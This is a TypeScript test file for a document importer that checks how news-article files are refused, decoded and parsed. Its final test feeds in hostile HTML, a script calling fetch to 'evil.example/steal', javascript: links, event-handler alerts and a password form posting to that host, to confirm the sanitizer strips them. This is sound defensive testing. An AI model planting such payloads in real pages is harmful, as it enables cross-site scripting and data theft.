import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import { describe, expect, it } from 'vitest';

import type { ImportResult } from './index';
import { importDocument, MAX_IMPORT_BYTES } from './index';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const fixture = (name: string): Uint8Array =>
  new Uint8Array(readFileSync(join(__dirname, 'fixtures', name)));
const ARTICLE =
  'Fuel protests spread west\n\nBy Jane Doe\n\nALMATY, Kazakhstan -- Thousands of people rallied in Zhanaozen on Monday against a rise in gas prices, officials said.\n';

function refusal(result: ImportResult): { code: string; message: string } {
  if (result.ok) throw new Error('expected a refusal');
  return result.error;
}

describe('importDocument refuses clearly', () => {
  it('empty and whitespace-only files', () => {
    expect(refusal(importDocument({ fileName: 'a.txt', bytes: new Uint8Array() }))).toMatchObject({
      code: 'empty',
      message: expect.stringContaining('a.txt is empty'),
    });
    expect(
      refusal(importDocument({ fileName: 'b.txt', bytes: utf8(' \r\n\t\u00a0\n') })).code,
    ).toBe('empty');
    expect(
      refusal(
        importDocument({
          fileName: 'c.html',
          bytes: utf8('<html><body><script>x()</script></body></html>'),
        }),
      ).code,
    ).toBe('empty');
  });

  it('binary files, by magic number or by their bytes', () => {
    expect(
      refusal(importDocument({ fileName: 'scan.pdf', bytes: utf8('%PDF-1.7\n1 0 obj') })),
    ).toMatchObject({ code: 'binary', message: expect.stringContaining('a PDF document') });
    expect(
      refusal(
        importDocument({
          fileName: 'photo.txt',
          bytes: new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16]),
        }),
      ).code,
    ).toBe('binary');
    expect(
      refusal(
        importDocument({
          fileName: 'blob.bin',
          bytes: new Uint8Array([1, 2, 3, 0, 0, 0, 9, 200, 201, 0, 7]),
        }),
      ).code,
    ).toBe('binary');
  });

  it('files over the size limit, naming the limit', () => {
    const error = refusal(
      importDocument({ fileName: 'huge.txt', bytes: new Uint8Array(MAX_IMPORT_BYTES + 1) }),
    );
    expect(error).toMatchObject({
      code: 'too-large',
      message: expect.stringContaining('the limit is 20 MB'),
    });
  });

  it('text formats that are not articles', () => {
    expect(refusal(importDocument({ fileName: 'data.json', bytes: utf8('{"a": 1}') })).code).toBe(
      'unsupported',
    );
    expect(
      refusal(importDocument({ fileName: 'doc.txt', bytes: utf8('{\\rtf1\\ansi Hello}') })),
    ).toMatchObject({ code: 'unsupported', message: expect.stringContaining('Rich Text') });
  });

  it('a BOM-marked UTF-8 file that is not UTF-8', () => {
    expect(
      refusal(
        importDocument({
          fileName: 'bad.txt',
          bytes: new Uint8Array([0xef, 0xbb, 0xbf, 0x41, 0xff, 0xfe, 0x42]),
        }),
      ).code,
    ).toBe('decode');
  });
});

describe('importDocument reads', () => {
  it('plain text: sha256 of the raw bytes, media type, encoding, blocks', () => {
    const result = importDocument({ fileName: 'abc.txt', bytes: utf8('abc') });
    expect(result.ok && result.source.origin).toEqual({
      fileName: 'abc.txt',
      mediaType: 'text/plain',
      encoding: 'utf-8',
      sha256: 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad',
    });
  });

  it('formats by extension and by sniffing an HTML page saved as .txt or without extension', () => {
    const page =
      '<!DOCTYPE html><html><head><title>Saved page</title></head><body><p>Officials said the rally was peaceful and ended by nightfall.</p></body></html>';
    for (const fileName of ['page.html', 'page.txt', 'page']) {
      const result = importDocument({ fileName, bytes: utf8(page) });
      expect(result.ok && result.source.origin.mediaType).toBe('text/html');
      expect(result.ok && result.source.title).toBe('Saved page');
    }
    const note = importDocument({ fileName: 'note.md', bytes: fixture('note.md') });
    expect(note.ok && note.source.origin.mediaType).toBe('text/markdown');
    expect(note.ok && note.source.title).toBe('Kazakhstan: what the arrest figures say');
  });

  it('legacy encodings, saying the encoding was detected', () => {
    const result = importDocument({ fileName: 'ru.txt', bytes: fixture('ru-koi8-r.txt') });
    expect(result.ok && result.source).toMatchObject({
      title: 'Протесты в Алматы: задержаны сотни человек',
      language: 'ru',
      authors: ['Ирина Петрова'],
      publishedAt: '2022-01-16',
    });
    expect(result.ok && result.source.origin.encoding).toBe('koi8-r');
    expect(
      result.ok && result.warnings.some((warning) => warning.includes('detected as koi8-r')),
    ).toBe(true);
  });

  it('a page’s declared charset', () => {
    const result = importDocument({ fileName: 'ru.html', bytes: fixture('ru-windows-1251.html') });
    expect(result.ok && result.source.origin.encoding).toBe('windows-1251');
    expect(result.ok && result.warnings.some((warning) => warning.includes('detected'))).toBe(
      false,
    );
  });

  it('warns about a missing date and flagged boilerplate', () => {
    const result = importDocument({
      fileName: 'a.txt',
      bytes: utf8(`Breaking News\n\n${ARTICLE}`),
    });
    expect(result.ok && result.warnings).toEqual(
      expect.arrayContaining([
        'No publication date found; add it if you know it.',
        '3 of 4 paragraphs flagged as boilerplate (hidden, not deleted).',
      ]),
    );
  });
});

describe('hostile HTML', () => {
  const hostile = `<!DOCTYPE html><html><head><title>Innocent headline</title>
    <meta http-equiv="refresh" content="0;url=https://evil.example/">
    <base href="https://evil.example/">
    <script>fetch('https://evil.example/steal')</script>
    <link rel="stylesheet" href="https://evil.example/x.css"></head>
    <body onload="alert(1)"><article>
    <p>Officials said on Tuesday that the protests had ended peacefully in most of the country's cities.</p>
    <img src="https://evil.example/pixel.gif" onerror="alert(2)">
    <svg><script>alert(3)</script></svg>
    <iframe src="javascript:alert(4)"></iframe>
    <p><a href="javascript:alert(5)">A second paragraph with a link</a> that reports more about the rallies and arrests.</p>
    <form action="https://evil.example/post"><input name="password"></form>
    </article></body></html>`;

  it('comes out as plain text only, without script, handler or URL content', () => {
    const result = importDocument({ fileName: 'evil.html', bytes: utf8(hostile) });
    if (!result.ok) throw new Error(result.error.message);
    expect(result.source.text).not.toMatch(/alert|evil\.example|<|javascript|password/);
    expect(result.source.text).toContain('Officials said on Tuesday');
    expect(result.source.url).toBeNull();
  });
});
